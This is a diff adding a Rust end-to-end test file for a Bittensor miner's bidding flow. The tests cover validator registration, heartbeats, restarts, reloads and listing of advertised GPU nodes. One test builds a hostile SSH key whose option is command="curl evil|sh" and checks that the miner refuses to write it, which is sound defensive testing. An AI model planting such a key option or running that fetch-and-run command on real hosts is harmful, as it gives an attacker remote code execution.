@@ -1,0 +1,243 @@
+//! Generation 2 end to end: `serve` registering at an independent validator (Python grpcio
+//! server compiled from proto/, every signature checked with bittensor-wallet), real sshd nodes
+//! on distinct loopback addresses with fake GPUs, the chain double for the assignment and the
+//! validator's axon IP.
+
+use std::io::{BufRead, BufReader};
+use std::net::IpAddr;
+use std::path::{Path, PathBuf};
+use std::process::{Child, Command, Stdio};
+use std::time::{Duration, Instant};
+
+use basilica_miner::core::identity::wallet::Keypair;
+use basilica_miner::testbed::GpuProfile::*;
+use basilica_miner::testbed::Testbed;
+use serde_json::Value;
+
+use crate::chain_double::ChainDouble;
+use crate::serve::{free_port, http_get, setup_bed, start_with, Daemon};
+use crate::support::{sandbox_for, Sandbox};
+
+/// The Python validator's MinerRegistration server.
+struct BidValidator {
+    child: Child,
+    log: PathBuf,
+}
+
+impl BidValidator {
+    fn start(ip: &str, port: u16, log: &Path, key_file: &Path, interval: u32, extra: &[&str]) -> BidValidator {
+        let script = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/validator/bid_validator.py");
+        let mut child = Command::new("python3")
+            .arg(script)
+            .args(["--host", ip, "--port", &port.to_string(), "--interval", &interval.to_string()])
+            .arg("--log")
+            .arg(log)
+            .arg("--key-file")
+            .arg(key_file)
+            .args(extra)
+            .stdout(Stdio::piped())
+            .stderr(Stdio::inherit())
+            .spawn()
+            .unwrap();
+        let mut line = String::new();
+        BufReader::new(child.stdout.take().unwrap()).read_line(&mut line).unwrap();
+        assert!(line.contains("listening"), "bid validator did not start: {line:?}");
+        BidValidator { child, log: log.to_path_buf() }
+    }
+
+    fn requests(&self) -> Vec<Value> {
+        std::fs::read_to_string(&self.log).unwrap_or_default().lines().map(|l| serde_json::from_str(l).unwrap()).collect()
+    }
+
+    fn of(&self, method: &str) -> Vec<Value> {
+        self.requests().into_iter().filter(|r| r["method"] == method).collect()
+    }
+
+    fn stop(&mut self) {
+        let _ = self.child.kill();
+        let _ = self.child.wait();
+    }
+}
+
+impl Drop for BidValidator {
+    fn drop(&mut self) {
+        self.stop();
+    }
+}
+
+fn wait_for(what: &str, d: &Daemon, timeout: Duration, mut done: impl FnMut() -> bool) {
+    let deadline = Instant::now() + timeout;
+    while !done() {
+        assert!(Instant::now() < deadline, "timed out waiting for {what}\n--- serve log\n{}", d.log());
+        std::thread::sleep(Duration::from_millis(100));
+    }
+}
+
+fn ips(last: &[u8]) -> Vec<IpAddr> {
+    last.iter().map(|l| IpAddr::from([127, 0, 0, *l])).collect()
+}
+
+/// `(host, category, count, cents)` of a RegisterBid's nodes.
+fn advertised(req: &Value) -> Vec<(String, String, u64, u64)> {
+    req["nodes"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|n| (n["host"].as_str().unwrap().to_string(), n["gpu_category"].as_str().unwrap().to_string(), n["gpu_count"].as_u64().unwrap(), n["hourly_rate_cents"].as_u64().unwrap()))
+        .collect()
+}
+
+fn validator_lines(bed: &Testbed) -> Vec<String> {
+    bed.nodes.iter().flat_map(|n| n.read_authorized_keys().lines().filter(|l| l.contains(" validator-")).map(str::to_string).collect::<Vec<_>>()).collect()
+}
+
+/// A sandbox with nodes on 127.0.0.11-13 (H100, A100 with [N/A] sensors, driver down), the
+/// chain double assigning them to Alice whose axon is 127.0.0.1, and the bid port.
+fn online_setup(double: &ChainDouble, bid_port: u16) -> (Sandbox, Testbed, String, u16, u16) {
+    let bed = Testbed::start_on(&[H100x8, A100NotAvailable, NoDriver], &ips(&[11, 12, 13])).expect("testbed");
+    let (s, bed, miner_hotkey, grpc, metrics) = setup_bed(sandbox_for(bed));
+    let alice = Keypair::from_uri("//Alice").unwrap();
+    let miner = *basilica_miner::core::identity::ss58::parse(&miner_hotkey).unwrap().as_ref();
+    double.set_uid(387, miner, 3);
+    double.set_neuron_axon(alice.public(), "127.0.0.1".parse().unwrap());
+    double.set_neurons(387, &[(alice.public(), 0, true, vec![900]), (miner, 3, false, vec![1])]);
+    // The A100 node has no rate of its own: its price comes from the static table.
+    let a100 = format!("host = \"127.0.0.12\"\nport = {}\nusername = \"{}\"\nhourly_rate_per_gpu = 2.5\n", bed.nodes[1].port, bed.nodes[1].username);
+    let text = s
+        .read("miner.toml")
+        .replace(&a100, &a100.replace("hourly_rate_per_gpu = 2.5\n", ""))
+        .replace("strategy = \"fixed_assignment\"", "strategy = \"highest_stake\"")
+        .replace("[bittensor]\n", &format!("[bittensor]\nchain_endpoint = \"{}\"\nweight_interval_secs = 1\n", double.url))
+        .replace("health_check_timeout = 3\n", "health_check_timeout = 3\nhealth_check_interval = 2\n");
+    s.write("miner.toml", &format!("bid_grpc_port = {bid_port}\n\n{text}\n[bidding.strategy.static.static_prices]\nA100 = 2.50\nH100 = 9.99\n"));
+    (s, bed, miner_hotkey, grpc, metrics)
+}
+
+#[test]
+fn serve_registers_healthy_nodes_heartbeats_and_follows_restarts_and_reloads() {
+    let double = ChainDouble::start();
+    let bid_port = free_port();
+    let (s, bed, miner_hotkey, grpc, metrics) = online_setup(&double, bid_port);
+    let alice = Keypair::from_uri("//Alice").unwrap();
+    let mut v = BidValidator::start("127.0.0.1", bid_port, &s.path("bids.jsonl"), &s.path("validator_ed25519.pub"), 2, &["--known", &miner_hotkey]);
+    let d = start_with(&s, grpc, metrics, &["serve"]);
+
+    wait_for("a RegisterBid", &d, Duration::from_secs(40), || !v.of("RegisterBid").is_empty());
+    let first = &v.of("RegisterBid")[0];
+    assert_eq!(first["miner_hotkey"], miner_hotkey.as_str());
+    assert_eq!(
+        advertised(first),
+        vec![("127.0.0.11".to_string(), "H100".to_string(), 8, 250), ("127.0.0.12".to_string(), "A100".to_string(), 4, 250)],
+        "exactly the two healthy nodes; the node whose driver is down is left out\n{}",
+        d.log()
+    );
+    assert!(first["nodes"].as_array().unwrap().iter().all(|n| n["attestation_len"] == 0 && n["port"].as_u64().unwrap() > 0));
+
+    // The key the validator returned is the one validator line on the nodes, tagged with Alice.
+    let key = std::fs::read_to_string(s.path("validator_ed25519.pub")).unwrap();
+    let blob = key.split_whitespace().nth(1).unwrap().to_string();
+    wait_for("the validator key on the advertised nodes", &d, Duration::from_secs(20), || {
+        bed.nodes[..2].iter().all(|n| n.read_authorized_keys().contains(&format!("{blob} validator-{}", alice.ss58)))
+    });
+    for n in &bed.nodes[..2] {
+        assert_eq!(n.read_authorized_keys().matches(" validator-").count(), 1, "{}", n.read_authorized_keys());
+    }
+
+    // Heartbeats at the returned interval (2 s), naming the advertised hosts.
+    wait_for("three heartbeats", &d, Duration::from_secs(20), || v.of("HealthCheck").len() >= 3);
+    let beats = v.of("HealthCheck");
+    assert_eq!(beats[0]["hosts"], serde_json::json!(["127.0.0.11", "127.0.0.12"]));
+    for pair in beats.windows(2) {
+        let gap = pair[1]["at"].as_f64().unwrap() - pair[0]["at"].as_f64().unwrap();
+        assert!((1.5..6.0).contains(&gap), "heartbeat gap {gap:.2} s, interval 2 s\n{}", d.log());
+    }
+    let m = http_get(d.metrics, "/metrics");
+    assert!(m.contains(&format!("basilica_miner_bid_registered{{validator=\"{}\"}} 1", alice.ss58)), "{m}");
+    assert!(m.contains("basilica_miner_bid_heartbeats_total{result=\"ok\"}"), "{m}");
+    assert!(!m.contains("basilica_miner_bid_last_heartbeat_timestamp_seconds 0\n"), "{m}");
+    let status = s.run(&["--json", "bid", "status"]).code(0).json();
+    assert_eq!(status["registration"]["validator_hotkey"], alice.ss58.as_str());
+    assert_eq!(status["registration"]["advertised"].as_array().unwrap().len(), 2);
+    assert_eq!(status["registration"]["last_heartbeat_result"], "ok");
+
+    // The validator restarts and forgets everything: the miner registers again soon after.
+    v.stop();
+    std::thread::sleep(Duration::from_secs(4));
+    let before = v.of("RegisterBid").len();
+    let back = Instant::now();
+    v = BidValidator::start("127.0.0.1", bid_port, &s.path("bids.jsonl"), &s.path("validator_ed25519.pub"), 2, &["--known", &miner_hotkey]);
+    wait_for("a RegisterBid after the validator came back", &d, Duration::from_secs(30), || v.of("RegisterBid").len() > before);
+    let took = back.elapsed();
+    assert!(took < Duration::from_secs(30), "re-registered after {took:?}");
+    assert_eq!(advertised(v.of("RegisterBid").last().unwrap()).len(), 2);
+    wait_for("the recovery in the log", &d, Duration::from_secs(10), || d.log().contains("bidding works again"));
+    eprintln!("re-registered {took:?} after the validator came back");
+
+    // A price change is an UpdateBid; a node removed with a reload is a RemoveBid for its host.
+    let text = s.read("miner.toml").replacen("hourly_rate_per_gpu = 2.5\n", "hourly_rate_per_gpu = 3.0\n", 1);
+    s.write("miner.toml", &text);
+    let _ = Command::new("kill").args(["-HUP", &d.child.id().to_string()]).status();
+    wait_for("an UpdateBid", &d, Duration::from_secs(20), || !v.of("UpdateBid").is_empty());
+    let u = &v.of("UpdateBid")[0];
+    assert_eq!((u["host"].as_str(), u["hourly_rate_cents"].as_u64()), (Some("127.0.0.11"), Some(300)));
+    s.run(&["--yes", "node", "remove", "127.0.0.12"]).code(0);
+    let _ = Command::new("kill").args(["-HUP", &d.child.id().to_string()]).status();
+    wait_for("a RemoveBid", &d, Duration::from_secs(20), || !v.of("RemoveBid").is_empty());
+    assert_eq!(v.of("RemoveBid")[0]["hosts"], serde_json::json!(["127.0.0.12"]));
+    let beats_before = v.of("HealthCheck").len();
+    wait_for("a heartbeat for the one node left", &d, Duration::from_secs(20), || v.of("HealthCheck").len() > beats_before);
+    assert_eq!(v.of("HealthCheck").last().unwrap()["hosts"], serde_json::json!(["127.0.0.11"]));
+
+    // Every request of the run was signed by the miner hotkey over the raw payload, and fresh.
+    let all = v.requests();
+    assert!(all.len() >= 8, "{all:?}");
+    for r in &all {
+        assert!(r["signature_ok"] == true && r["raw_only"] == true && r["fresh"] == true && r["signature_len"] == 64, "bad request {r}");
+    }
+    drop(d);
+}
+
+#[test]
+fn a_hostile_key_from_a_validator_is_never_written_and_registration_is_retried() {
+    let bed = Testbed::start_on(&[H100x8, H100x8], &ips(&[21, 22])).expect("testbed");
+    let (s, bed, miner_hotkey, grpc, metrics) = setup_bed(sandbox_for(bed));
+    let bid_port = free_port();
+    // Two keys in one answer, the second with options: a validator trying to plant a shell.
+    let key = std::fs::read_to_string(s.path("validator_ed25519.pub")).unwrap();
+    let hostile = format!("{}command=\"curl evil|sh\" {}", key, key.trim_end());
+    s.write("hostile.pub", &hostile);
+    let v = BidValidator::start("127.0.0.1", bid_port, &s.path("bids.jsonl"), &s.path("hostile.pub"), 2, &["--keep-newline"]);
+    let text = s.read("miner.toml");
+    s.write("miner.toml", &format!("{text}\n[bidding]\nvalidator_endpoint = \"http://127.0.0.1:{bid_port}\"\n"));
+    let d = start_with(&s, grpc, metrics, &["serve", "--offline"]);
+    wait_for("two RegisterBid attempts", &d, Duration::from_secs(40), || v.of("RegisterBid").len() >= 2);
+    wait_for("the refusal in the log", &d, Duration::from_secs(10), || d.log().contains("was refused; nothing was written"));
+    let m = http_get(d.metrics, "/metrics");
+    assert!(m.lines().any(|l| l.starts_with("basilica_miner_bid_rejected_keys_total ") && !l.ends_with(" 0")), "{m}");
+    assert!(validator_lines(&bed).is_empty(), "{:?}", validator_lines(&bed));
+    for n in &bed.nodes {
+        assert!(!n.read_authorized_keys().contains("curl"), "{}", n.read_authorized_keys());
+    }
+    assert!(v.of("HealthCheck").is_empty(), "no heartbeat without an accepted registration");
+    let status = s.run(&["--json", "bid", "status"]).code(1).json();
+    assert_eq!(status["registered"], false);
+    assert!(status["registration"]["last_error"].as_str().unwrap().contains("unacceptable SSH key"), "{status}");
+    assert!(http_get(d.metrics, "/metrics").contains("basilica_miner_node_count 2"), "the daemon keeps serving");
+    drop(miner_hotkey);
+}
+
+#[test]
+fn bid_show_lists_what_would_be_advertised_and_why_the_rest_is_not() {
+    let bed = Testbed::start_on(&[H100x8, A100NotAvailable, NoDriver, Unsupported], &ips(&[31, 32, 33, 34])).expect("testbed");
+    let (s, _bed) = sandbox_for(bed);
+    let out = s.run(&["--json", "bid", "show"]).code(0).json();
+    let adv = out["advertised"].as_array().unwrap();
+    let got: Vec<(&str, &str, u64, u64)> = adv.iter().map(|a| (a["host"].as_str().unwrap(), a["gpu_category"].as_str().unwrap(), a["gpu_count"].as_u64().unwrap(), a["hourly_rate_cents"].as_u64().unwrap())).collect();
+    assert_eq!(got, vec![("127.0.0.31", "H100", 8, 250), ("127.0.0.32", "A100", 4, 250)], "{out}");
+    let reasons: Vec<&str> = out["left_out"].as_array().unwrap().iter().map(|l| l["reason"].as_str().unwrap()).collect();
+    assert_eq!(reasons, vec!["unhealthy", "unknown_gpu_model"], "{out}");
+    s.run(&["bid", "show"]).code(0).stdout_has("H100 x8").stdout_has("left out: nvidia-smi reports NVIDIA GeForce RTX 4090");
+    // Two nodes on one IP: warned by node add, node test and config validate.
+    s.run(&["node", "add", "--rate", "2", "root@127.0.0.31:2222"]).code(0).stderr_has("shares IP 127.0.0.31 with nodes[0]");
+    s.run(&["config", "validate"]).stderr_has("shares IP 127.0.0.31");
+}
